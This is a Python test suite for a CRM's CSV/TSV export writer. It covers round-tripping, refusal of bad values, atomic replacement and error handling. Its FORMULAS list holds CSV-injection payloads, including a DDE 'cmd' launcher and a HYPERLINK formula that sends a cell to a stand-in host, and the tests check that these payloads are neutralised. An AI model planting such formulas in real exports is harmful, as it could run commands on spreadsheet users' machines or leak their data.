"""Writing delimited text: exact for machines, harmless for spreadsheets, whole or not at all."""

import csv
import os
import resource
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crmcore.adapters.files import open_rows, open_sink
from crmcore.adapters.files.delimited_sink import DelimitedSink
from crmcore.domain.errors import InvalidSetting, InvalidValue, StorageFailed
from tests.adapters.files.conftest import cells

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "+966501234567",
]

TEXT = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=12)
TABLES = st.integers(1, 4).flatmap(lambda width: st.lists(st.lists(TEXT, min_size=width, max_size=width), min_size=1))


@given(table=TABLES, suffix=st.sampled_from([".csv", ".tsv"]))
def test_every_table_of_text_comes_back(
    tmp_path_factory: pytest.TempPathFactory, table: list[list[str]], suffix: str
) -> None:
    """Export and import would not be inverse: some cell would be lost, cut, trimmed or moved."""
    path = tmp_path_factory.mktemp("round") / f"table{suffix}"
    rows = [{f"c{index}": cell for index, cell in enumerate(row)} for row in table]
    with open_sink(path, list(rows[0])) as sink:
        for row in rows:
            sink.write(row)
    assert cells(list(open_rows(path))) == rows


@given(table=TABLES)
def test_the_standard_reader_reads_the_same(tmp_path_factory: pytest.TempPathFactory, table: list[list[str]]) -> None:
    """Reader and writer of ours would agree with each other and with nobody else."""
    path = tmp_path_factory.mktemp("standard") / "table.csv"
    with open_sink(path, [f"c{index}" for index in range(len(table[0]))]) as sink:
        for row in table:
            sink.write({f"c{index}": cell for index, cell in enumerate(row)})
    with path.open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file, strict=True))[1:] == table


def test_the_machine_form_leaves_formulas_alone(tmp_path: Path) -> None:
    """CSV-01: an exported "+966..." could not be imported again."""
    path = tmp_path / "out.csv"
    with open_sink(path, ["name", "note"]) as sink:
        for formula in FORMULAS:
            sink.write({"name": formula})
    assert [row["name"] for row in cells(list(open_rows(path)))] == FORMULAS
    assert path.read_bytes().startswith(b"name,note\r\n")


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_form_for_spreadsheets_starts_no_formula(tmp_path: Path, formula: str) -> None:
    """CSV-01: a name that a stranger typed would run as a formula on the reader's machine."""
    path = tmp_path / "out.csv"
    with open_sink(path, ["name", "note"], for_spreadsheet=True) as sink:
        sink.write({"name": formula, "note": "Ali - 1=1"})
    with path.open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file))[1] == ["'" + formula, "Ali - 1=1"]


def test_numbers_stay_numbers_for_spreadsheets(tmp_path: Path) -> None:
    """CSV-01: a negative amount would become text that no sum counts, or an exponent that no import reads."""
    path = tmp_path / "out.csv"
    with open_sink(path, ["a", "b", "c", "d"], for_spreadsheet=True) as sink:
        sink.write({"a": Decimal("-5.00"), "b": -5, "c": Decimal("1E+3"), "d": "-5"})
    assert path.read_bytes() == b'\xef\xbb\xbf"a","b","c","d"\r\n"-5.00","-5","1000","\'-5"\r\n'


@pytest.mark.parametrize(
    ("values", "said"),
    [
        ({"name": "A\0li"}, "NUL"),
        ({"name": "\ud800"}, "surrogate"),
        ({"nmae": "Ali"}, "nmae"),  # would be left out without a word
        ({"name": Decimal("NaN")}, "NaN"),
        ({"name": True}, "True"),
        ({"name": 0.1}, "0.1"),
        ({"name": ["a"]}, "a"),
    ],
)
def test_what_a_cell_cannot_hold_is_refused(tmp_path: Path, values: dict[str, object], said: str) -> None:
    """A file would be written that says something else than the data, or that cannot be read again."""
    with DelimitedSink(tmp_path / "out.csv", ["name", "note"]) as sink, pytest.raises(InvalidValue, match=said):
        sink.write(values)


def test_nothing_stands_under_the_name_before_the_end(tmp_path: Path) -> None:
    """EXP-01: somebody would take half an export for a whole one."""
    path = tmp_path / "out.csv"
    path.write_text("older")
    sink = open_sink(path, ["name"])
    sink.write({"name": "Ali"})
    assert path.read_text() == "older"
    sink.close()
    assert path.read_bytes() == b'"name"\r\n"Ali"\r\n'
    assert [file.name for file in tmp_path.iterdir()] == ["out.csv"]


def test_a_failed_export_leaves_nothing_behind(tmp_path: Path) -> None:
    """Half a file would stay, or the older one be gone."""
    path = tmp_path / "out.csv"
    path.write_text("older")
    with pytest.raises(KeyError), open_sink(path, ["name"]) as sink:
        sink.write({"name": "Ali"})
        raise KeyError
    assert path.read_text() == "older"
    assert [file.name for file in tmp_path.iterdir()] == ["out.csv"]


def test_closing_and_aborting_again_changes_nothing(tmp_path: Path) -> None:
    """Tidying up in a `finally` would remove the finished file."""
    path = tmp_path / "out.csv"
    sink = open_sink(path, ["name"])
    sink.close()
    sink.abort()
    sink.close()
    assert path.read_bytes() == b'"name"\r\n'


def test_an_export_has_the_usual_permissions(tmp_path: Path) -> None:
    """A file made as a temporary one could be read by nobody else, whatever the user's umask says."""
    ordinary = tmp_path / "ordinary"
    ordinary.touch()
    open_sink(tmp_path / "out.csv", ["name"]).close()
    assert (tmp_path / "out.csv").stat().st_mode == ordinary.stat().st_mode


def test_an_export_through_a_link_replaces_the_file_behind_it(tmp_path: Path) -> None:
    """The link would become a file, and the file that others read stay old."""
    (tmp_path / "real.csv").write_text("older")
    (tmp_path / "link.csv").symlink_to("real.csv")
    open_sink(tmp_path / "link.csv", ["name"]).close()
    assert (tmp_path / "link.csv").is_symlink()
    assert (tmp_path / "real.csv").read_bytes() == b'"name"\r\n'


@pytest.mark.parametrize("name", ["none/out.csv", "folder.csv", "pipe.csv", "file.txt/out.csv"])
def test_a_place_where_nothing_can_be_written_is_named(tmp_path: Path, name: str) -> None:
    """A traceback; or a device or pipe of that name would be replaced by a file."""
    (tmp_path / "folder.csv").mkdir()
    os.mkfifo(tmp_path / "pipe.csv")
    (tmp_path / "file.txt").touch()
    with pytest.raises(InvalidSetting, match=name):
        open_sink(tmp_path / name, ["name"])
    assert {path.name for path in tmp_path.iterdir()} == {"folder.csv", "pipe.csv", "file.txt"}


def test_a_full_disk_is_a_typed_error(tmp_path: Path) -> None:
    """CRA-02: a traceback, or a piece of a file that fills the disk for good."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    sink = open_sink(tmp_path / "out.csv", ["name"])
    resource.setrlimit(resource.RLIMIT_FSIZE, (65_536, hard))  # the system refuses as if there were no space
    try:
        with pytest.raises(StorageFailed, match=r"out\.csv"):
            for _ in range(100_000):
                sink.write({"name": "Ali"})
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    sink.abort()
    assert list(tmp_path.iterdir()) == []


def test_a_folder_that_vanishes_is_a_typed_error(tmp_path: Path) -> None:
    """A failure at the very end, as on a full disk, would be a traceback or a leftover."""
    folder = tmp_path / "gone"
    folder.mkdir()
    sink = open_sink(folder / "out.csv", ["name"])
    for path in folder.iterdir():
        path.unlink()
    folder.rmdir()
    with pytest.raises(StorageFailed, match=r"out\.csv"):
        sink.close()
